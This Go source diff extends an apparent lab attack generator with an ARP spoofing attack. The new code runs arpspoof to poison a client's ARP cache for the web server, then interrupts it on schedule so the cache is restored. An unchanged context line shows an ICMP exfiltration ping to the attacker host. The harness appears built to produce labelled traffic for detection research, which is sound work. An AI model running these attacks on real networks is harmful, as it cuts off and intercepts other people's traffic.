@@ -1,6 +1,7 @@
 package lab
 
 import (
+	"bytes"
 	"context"
 	"encoding/base32"
 	"encoding/hex"
@@ -19,7 +20,7 @@ import (
 )
 
 // Attack names accepted in Config.Attacks.
-var AttackNames = []string{"nmap", "hping3", "hydra", "beacon", "dnstunnel", "revshell", "icmpexfil"}
+var AttackNames = []string{"nmap", "hping3", "hydra", "beacon", "dnstunnel", "revshell", "icmpexfil", "arpspoof"}
 
 // attack runs one labelled attack from the attacker host within ctx (its
 // time slot) and returns the command it ran, or a reason to skip it.
@@ -33,6 +34,7 @@ var attacks = map[string]attackFunc{
 	"dnstunnel": dnsTunnelAttack,
 	"revshell":  revshellAttack,
 	"icmpexfil": icmpExfilAttack,
+	"arpspoof":  arpspoofAttack,
 }
 
 func runTool(ctx context.Context, att *host, prog string, args ...string) (string, error) {
@@ -256,6 +258,46 @@ func icmpExfilAttack(ctx context.Context, l *lab, att *host) (string, string, er
 	return fmt.Sprintf("victim %s: ping -n -c 1 -W 1 -s 48 -p HEX %s, %d chunks of 16 bytes", victim.addr, att.addr, sent), "", nil
 }
 
+// arpspoofAttack: dsniff's arpspoof tells the first client, every 2 s, that
+// the web server's address is at the attacker's MAC (ARP cache poisoning).
+// The attacker does not forward, so the client's traffic to the web server
+// goes nowhere while it lasts. Interrupted 6 s before the slot ends,
+// arpspoof re-ARPs the client with the server's real MAC (5 replies, 1 s
+// apart) and exits, so the client's cache is mended within the span.
+func arpspoofAttack(ctx context.Context, l *lab, att *host) (string, string, error) {
+	path, err := lookPath("arpspoof")
+	if err != nil {
+		return "", "arpspoof not installed (apt-get install dsniff)", nil
+	}
+	if len(l.hosts) < 3 {
+		return "", "arpspoof needs a client", nil
+	}
+	run := ctx
+	if dl, ok := ctx.Deadline(); ok {
+		var cancel context.CancelFunc
+		run, cancel = context.WithDeadline(ctx, dl.Add(-6*time.Second))
+		defer cancel()
+	}
+	target, server := l.victim("arpspoof"), l.hosts[0].addr
+	args := []string{"-i", "eth0", "-t", target.String(), server.String()}
+	cmd := att.ns.command(ctx, path, args...)
+	var out bytes.Buffer
+	cmd.Stdout, cmd.Stderr = &out, &out
+	done := make(chan error, 1)
+	if err := cmd.Start(); err != nil {
+		return "", "", fmt.Errorf("arpspoof: %w", err)
+	}
+	go func() { done <- cmd.Wait() }()
+	select {
+	case err := <-done: // exited on its own: it failed
+		return "", "", fmt.Errorf("arpspoof exited early: %v: %s", err, lastLine(out.String()))
+	case <-run.Done():
+	}
+	_ = cmd.Process.Signal(os.Interrupt) // re-ARP and exit; ctx's end kills it otherwise
+	<-done
+	return "arpspoof " + strings.Join(args, " "), "", nil
+}
+
 // runAttacks runs the requested attacks one after another, each in its own
 // slot of the window [from, to] after start, and records them.
 func (l *lab) runAttacks(ctx context.Context, start time.Time, from, to time.Duration) {
@@ -289,8 +331,11 @@ func (l *lab) runAttacks(ctx context.Context, start time.Time, from, to time.Dur
 }
 
 func (l *lab) victim(attack string) netip.Addr {
-	if attack == "hydra" || attack == "dnstunnel" {
+	switch {
+	case attack == "hydra" || attack == "dnstunnel":
 		return l.hosts[1].addr
+	case attack == "arpspoof" && len(l.hosts) > 2: // the first client
+		return l.hosts[2].addr
 	}
 	return l.hosts[0].addr
 }
